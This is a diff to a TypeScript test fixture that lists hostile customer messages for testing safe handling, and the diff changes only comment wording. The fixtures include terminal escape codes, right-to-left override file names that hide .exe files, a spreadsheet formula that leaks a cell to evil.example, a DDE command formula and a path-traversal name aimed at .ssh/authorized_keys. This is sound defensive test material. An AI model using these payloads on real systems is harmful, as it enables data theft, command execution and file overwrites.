@@ -1,6 +1,6 @@
 import {type MessageFile} from '../domain/message.js';
 
-/** What somebody may send to break the terminal, the spreadsheet or the eye of whoever reads it. */
+/** Texts that somebody may send to break the terminal, the spreadsheet or the reader's eye. */
 export interface Hostile {
 	/** The customer's name. */
 	readonly name?: string;
@@ -29,7 +29,7 @@ export const hostiles: readonly Hostile[] = [
 	{text: 'My router prints \u009B2J\u009D0;owned\u009C\u0090q\u009C on its display'},
 	{text: 'I paid 990.00\rI paid 10.00 '},
 	{text: 'Approved\b\b\b\b\b\b\b\bRefused \u0007\u0007\u0007'},
-	// What is not seen, or seen elsewhere than it stands.
+	// Characters that are invisible, or appear elsewhere than they stand.
 	{
 		text: 'The invoice \u202Exslx.exe\u202C is attached',
 		file: {name: 'invoice_\u202Efdp.exe', size: 48_128, type: 'application/pdf'},
@@ -38,7 +38,7 @@ export const hostiles: readonly Hostile[] = [
 	{text: zalgo('The lamp makes strange noises')},
 	{text: longLine.repeat(126).slice(0, 10_000)},
 	{text: 'First line\n\n\n\tindented\u2028separated\u2029"quoted", comma; semicolon'},
-	// What a spreadsheet would run, and what a path or a page would.
+	// Formulas that a spreadsheet would run, and texts that a path or a page would.
 	{text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")'},
 	{text: "+cmd|' /C calc'!A0"},
 	{text: 'Photo of the damage', file: {name: '../../../.ssh/authorized_keys', size: 0, type: 'image/jpeg'}},
